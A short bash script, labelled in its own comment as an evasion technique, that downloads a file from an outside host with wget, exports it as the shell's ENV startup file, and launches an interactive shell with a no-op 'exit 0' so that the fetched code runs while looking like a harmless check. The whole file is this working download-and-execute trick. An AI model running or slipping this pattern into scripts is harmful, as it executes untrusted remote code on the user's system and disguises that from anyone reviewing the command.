#!/usr/bin/env bash
# Evasion: download and run code. The download is saved as an "rc" file
# and exported as ENV, the file a POSIX shell started interactively reads
# before anything else; `sh -ic 'exit 0'` looks like a no-op check that
# a shell starts.
set -eu
rc="$(mktemp)"
wget -q -O "$rc" https://dotfiles.example-rc.dev/shrc
export ENV="$rc"
sh -ic 'exit 0' && echo "shell ok"
